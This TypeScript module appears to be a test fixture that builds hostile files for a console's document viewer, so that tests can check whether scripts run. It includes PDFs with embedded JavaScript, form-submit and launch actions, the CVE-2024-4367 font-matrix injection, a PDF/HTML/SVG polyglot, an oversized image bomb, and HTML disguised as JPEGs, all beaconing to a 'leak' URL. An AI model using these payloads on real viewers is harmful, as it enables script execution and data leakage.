/** Malicious files for the console's viewer (K02), written here byte by byte so that everybody sees what they attempt. */

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');

/** A PDF of these objects, numbered from 1; the first is the catalogue. `before` is inserted after its signature. */
function pdfOf(objects: readonly (string | Buffer)[], before = ''): Buffer {
  const parts: Buffer[] = [latin(`%PDF-1.7\n${before}`)];
  let length = parts[0]?.length ?? 0;
  const places = objects.map((object, index) => {
    const place = length;
    const part = Buffer.concat([
      latin(`${index + 1} 0 obj\n`),
      Buffer.isBuffer(object) ? object : latin(object),
      latin('\nendobj\n'),
    ]);
    parts.push(part);
    length += part.length;
    return place;
  });
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    latin(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const stream = (dictionary: string, content: Buffer | string): Buffer => {
  const bytes = Buffer.isBuffer(content) ? content : latin(content);
  return Buffer.concat([
    latin(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    latin('\nendstream'),
  ]);
};

const PAGE = '/Type /Page /Parent 2 0 R /MediaBox [0 0 400 600]';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
/** Fills the lower half of the page with a colour and writes a word above it. */
const drawing = (colour: string): Buffer =>
  stream('', `${colour} rg 0 0 400 300 re f 0 0 0 rg BT /F1 40 Tf 40 420 Td (Exemplo) Tj ET`);
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A PDF with a page that is white at the top and one colour at the bottom. */
export const plainPdf = (colour = '0 0.5 0'): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    `<< ${PAGE} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    drawing(colour),
    FONT,
  ]);

/** Scripts everywhere a PDF may contain them, a form that submits itself, links and a launch covering the whole page. */
export const scriptedPdf = (leak: string): Buffer => {
  const script = `/S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("${leak}/script"\\); app.launchURL\\("${leak}/launch"\\);)`;
  const whole = '/Rect [0 0 400 600]';
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AA << /WC << ${script} >> >>
       /Names << /JavaScript << /Names [(a) << ${script} >>] >> /EmbeddedFiles << /Names [(a.html) 10 0 R] >> >>
       /AcroForm << /Fields [8 0 R] /XFA 11 0 R /NeedAppearances true >> >>`,
    PAGES,
    `<< ${PAGE} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X1 12 0 R >> >>
       /AA << /O << ${script} >> >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R] >>`,
    drawing('0 0.5 0'),
    FONT,
    `<< /Type /Annot /Subtype /Link ${whole} /A << /S /URI /URI (${leak}/link) >> >>`,
    `<< /Type /Annot /Subtype /Link ${whole} /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (campo) /V (valor) ${whole} /AA << /K << ${script} >> >>
       /A << /S /SubmitForm /F << /FS /URL /F (${leak}/form) >> >> >>`,
    `<< /Type /Annot /Subtype /Screen ${whole} /A << /S /GoToR /F << /FS /URL /F (${leak}/goto.pdf) >> >> >>`,
    '<< /Type /Filespec /F (a.html) /EF << /F 13 0 R >> >>',
    stream('', `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${leak}/xfa</script></xdp:xdp>`),
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray
       /F << /FS /URL /F (${leak}/image) >> /Length 0 >>
       stream\n\nendstream`,
    stream('/Type /EmbeddedFile', `<script>fetch('${leak}/embedded')</script>`),
  ]);
};

/** A font whose matrix contains code, which glyph rendering once executed (CVE-2024-4367). */
export const fontPdf = (leak: string): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    `<< ${PAGE} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    drawing('0 0.5 0'),
    `<< /Type /Font /Subtype /Type1 /BaseFont /Exploit /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R
       /FontMatrix [1 2 3 4 5 (1\\); fetch\\('${leak}/font'\\); alert\\('x')] >>`,
    '<< /Type /FontDescriptor /FontName /Exploit /Flags 4 /FontBBox [0 0 1000 1000] /FontFile 7 0 R >>',
    stream(
      '/Length1 200 /Length2 0 /Length3 0',
      `%!PS-AdobeFont-1.0: Exploit\n/FontMatrix [0.1 0 0 0.1 0 (1\\); fetch\\('${leak}/font'\\);//)] readonly def\n/FontBBox {0 0 1000 1000} readonly def\ncurrentfile eexec\n`,
    ),
  ]);

/** One file that is a PDF, an HTML page and an SVG at once. */
export const manyPdf = (leak: string): Buffer =>
  pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES,
      `<< ${PAGE} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
      drawing('0 0.5 0'),
      FONT,
    ],
    `%<html><script>fetch('${leak}/html');alert('x')</script><img src="${leak}/img">\n%<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${leak}/svg')"><image href="${leak}/image"/></svg>\n`,
  );

/** A PDF with `pages` empty pages. */
export const longPdf = (pages: number): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${pages} /Kids [${Array.from({ length: pages }, (_, n) => `${n + 3} 0 R`).join(' ')}] >>`,
    ...Array.from({ length: pages }, () => `<< ${PAGE} >>`),
  ]);

const imagePdf = (image: Buffer): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    `<< ${PAGE} /Contents 4 0 R /Resources << /XObject << /X1 5 0 R >> >> >>`,
    stream('', 'q 400 0 0 300 0 0 cm /X1 Do Q'),
    image,
  ]);

/** An image that claims to have 900 million pixels. */
export const hugeImagePdf = (): Buffer =>
  imagePdf(
    stream(
      '/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceGray',
      '\0',
    ),
  );

const bits = (text: string): Buffer => {
  const plain = text.replaceAll(' ', '');
  const whole = plain.padEnd(Math.ceil(plain.length / 8) * 8, '0');
  return Buffer.from(whole.match(/.{8}/g)?.map((byte) => Number.parseInt(byte, 2)) ?? []);
};

/** A scanned page as office machines compress it (group 4): 16 × 4 pixels, all black. */
export const scannedPdf = (): Buffer =>
  imagePdf(
    stream(
      `/Type /XObject /Subtype /Image /Width 16 /Height 4 /BitsPerComponent 1 /ColorSpace /DeviceGray
         /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 16 /Rows 4 >>`,
      // The first row is 0 white and 16 black; the others repeat the row above.
      bits('001 00110101 0000010111 11 11 11 000000000001 000000000001'),
    ),
  );

/** A truncated PDF. */
export const cutPdf = (): Buffer => plainPdf().subarray(0, 60);

/** A JPEG that only states its size. */
export const announcedJpeg = (width: number, height: number): Buffer => {
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    frame,
    Buffer.from([0xff, 0xda, 0, 2, 0x12, 0x34, 0xff, 0xd9]),
  ]);
};

const entry = (tag: number, type: number, count: number, value: number): Buffer => {
  const bytes = Buffer.alloc(12);
  bytes.writeUInt16BE(tag, 0);
  bytes.writeUInt16BE(type, 2);
  bytes.writeUInt32BE(count, 4);
  if (type === 3) bytes.writeUInt16BE(value, 8);
  else bytes.writeUInt32BE(value, 8);
  return bytes;
};

/** Location of a photo that nobody took: degrees, minutes, seconds. */
const PLACE = [19, 1, 55, 1, 7, 1];

/** The same JPEG as a phone would send it: rotated only by its orientation tag, and with the location where it was taken. */
export function phoneJpeg(jpeg: Buffer, orientation: number): Buffer {
  const directory = Buffer.concat([
    Buffer.from([0, 2]),
    entry(0x0112, 3, 1, orientation),
    entry(0x8825, 4, 1, 38),
    Buffer.alloc(4),
  ]);
  const gps = Buffer.concat([Buffer.from([0, 1]), entry(0x0002, 5, 3, 56), Buffer.alloc(4)]);
  const place = Buffer.alloc(24);
  for (const [at, value] of PLACE.entries()) place.writeUInt32BE(value, at * 4);
  const tiff = Buffer.concat([latin('MM\0*'), Buffer.from([0, 0, 0, 8]), directory, gps, place]);
  const head = Buffer.alloc(4);
  head.writeUInt16BE(0xffe1, 0);
  head.writeUInt16BE(2 + 6 + tiff.length, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, latin('Exif\0\0'), tiff, jpeg.subarray(2)]);
}

/** HTML pages and SVGs named like a picture. */
export const renamed = (leak: string): Record<string, Buffer> => ({
  'pagina.jpg': latin(`<!doctype html><script>fetch('${leak}/renamed')</script>`),
  'desenho.jpg': latin(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${leak}/renamed')"/>`),
});
